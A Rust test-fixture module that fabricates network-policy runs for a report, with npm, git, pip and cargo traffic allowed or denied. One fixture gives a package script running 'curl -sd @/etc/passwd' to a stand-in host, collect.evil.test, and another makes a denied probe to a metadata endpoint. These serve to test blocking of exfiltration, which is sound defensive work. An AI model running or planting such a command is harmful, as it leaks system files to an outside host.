//! Made-up runs.

use std::sync::Arc;
use std::time::{Duration, SystemTime};

use netns::job::Program;
use policy::{Mode, Policy, PolicyBuilder, Reason};

use crate::audit::{Event, Kind, Outcome};
use crate::report::{End, Summary};

/// Every run starts then.
pub(in crate::report) fn start() -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_secs(1_750_000_000)
}

pub(in crate::report) fn policy(mode: Mode, rules: &[&str]) -> Policy {
    let mut builder = PolicyBuilder::new();
    builder.set_mode(mode);
    rules.iter().for_each(|rule| {
        builder.add_allow(rule);
    });
    builder.build().unwrap()
}

/// A program by its lineage, the eldest first, and its arguments.
pub(in crate::report) fn program(lineage: &[&str], args: &[&str]) -> Arc<Program> {
    let mut parents: Vec<String> = lineage.iter().rev().map(|&path| path.to_owned()).collect();
    let exe = parents.remove(0);
    Arc::new(Program { pid: 812, exe, args: args.iter().map(|&arg| arg.to_owned()).collect(), parents })
}

/// So many milliseconds after the start.
pub(in crate::report) fn event(verdict: Outcome, kind: Kind, name: &str, port: u16, at: u64) -> Event {
    let mut event = Event::new(verdict, kind);
    event.at = start() + Duration::from_millis(at);
    event.name = Some(name.to_owned());
    event.port = Some(port);
    match verdict {
        Outcome::Allow => event.rule = Some(name.to_owned()),
        Outcome::Deny | Outcome::WouldDeny => {
            event.reason = Some(Reason::NotAllowed);
            event.suggestion = Some(name.to_owned());
        }
    }
    event
}

/// A package is installed, and a script of it is curious.
pub(in crate::report) fn ordinary(mode: Mode) -> Summary {
    let rules = [
        "registry.test",
        "*.github.test",
        "pypi.test",
        "files.test",
        "crates.test",
        "unused.test",
        "dns:old.test",
    ];
    let mut summary = Summary::new(&policy(mode, &rules), start());
    let denied = if mode == Mode::Enforce { Outcome::Deny } else { Outcome::WouldDeny };
    let npm = ["/usr/bin/bash", "/usr/bin/make", "/usr/bin/dash", "/usr/bin/node"];
    let node = program(&npm, &["npm", "ci", "--no-audit"]);
    let curl = program(
        &[&npm[..], &["/usr/bin/dash", "/usr/bin/curl"]].concat(),
        &["curl", "-sd", "@/etc/passwd", "https://collect.evil.test/"],
    );
    let git = program(
        &["/usr/bin/bash", "/usr/bin/make", "/usr/bin/git", "/usr/lib/git-core/git-remote-https"],
        &["git-remote-https", "origin"],
    );
    let pip = program(
        &["/usr/bin/bash", "/usr/bin/make", "/usr/bin/python3.13"],
        &["python3", "-m", "pip", "install", "-r", "requirements.txt"],
    );
    let cargo =
        program(&["/usr/bin/bash", "/usr/bin/make", "/home/runner/.cargo/bin/cargo"], &["cargo", "fetch"]);
    let mut add = |program: Option<&Arc<Program>>, mut event: Event, up: u64, down: u64, took: u64| {
        event.program = program.cloned();
        if event.verdict != Outcome::Deny {
            (event.bytes_up, event.bytes_down) = (Some(up), Some(down));
        }
        event.duration = Some(Duration::from_millis(took));
        summary.add(&event);
    };
    let tls = |name: &str, at| event(Outcome::Allow, Kind::Tls, name, 443, at);
    for index in 0..48 {
        add(Some(&node), tls("registry.test", 1200 + index * 97), 2_100, 310_000 + index * 9_000, 400);
    }
    for (index, name) in ["api", "codeload", "raw", "objects"].into_iter().enumerate() {
        let mut event = tls(&format!("{name}.github.test"), 300 + index as u64 * 160);
        event.rule = Some("*.github.test".to_owned());
        add(Some(&git), event, 18_400, 4_200_000, 900);
    }
    for index in 0..9 {
        add(Some(&pip), tls("pypi.test", 7_000 + index * 120), 3_000, 52_000, 150);
        add(Some(&pip), tls("files.test", 7_100 + index * 350), 1_800, 6_400_000, 700);
    }
    for index in 0..21 {
        add(Some(&cargo), tls("crates.test", 10_500 + index * 40), 900, 88_000, 90);
    }
    for index in 0..3 {
        add(Some(&curl), event(denied, Kind::Dns, "collect.evil.test", 53, 6_000 + index * 30), 0, 0, 1);
    }
    add(Some(&curl), event(denied, Kind::Http, "metadata.test", 80, 6_200), 0, 0, 2);
    add(Some(&node), event(denied, Kind::Tls, "telemetry.vendor.test", 443, 5_100), 0, 0, 3);
    add(
        Some(&pip),
        event(denied, Kind::Tls, "mirror.example-of-a-rather-long-name.pypi.test", 8443, 8_000),
        0,
        0,
        3,
    );
    let mut address = Event {
        name: None,
        destination: "2001:db8::53".parse().ok(),
        ..event(denied, Kind::Udp, "", 123, 9_000)
    };
    address.reason = Some(Reason::IpNotAllowed);
    address.suggestion = Some("[2001:db8::53]:123/udp".to_owned());
    add(None, address, 0, 0, 0);
    summary.end(End {
        at: start() + Duration::from_millis(12_700),
        command: Some(0),
        status: if mode == Mode::Enforce { 122 } else { 0 },
    });
    summary
}

/// A run that wants this many destinations.
pub(in crate::report) fn many(destinations: usize, programs: usize) -> Summary {
    let mut summary = Summary::new(&policy(Mode::Enforce, &["unused.test"]), start());
    for index in 0..destinations {
        let verdict = if index % 3 == 0 { Outcome::Deny } else { Outcome::Allow };
        let mut event = event(verdict, Kind::Tls, &format!("n{index}.test"), 443, index as u64 * 11);
        let exe = format!("/opt/tool-{}", index % programs);
        event.program = Some(program(&["/usr/bin/bash", &exe], &["tool", "--fetch"]));
        summary.add(&event);
    }
    summary.end(End {
        at: start() + Duration::from_millis(destinations as u64 * 11),
        command: Some(3),
        status: 3,
    });
    summary
}
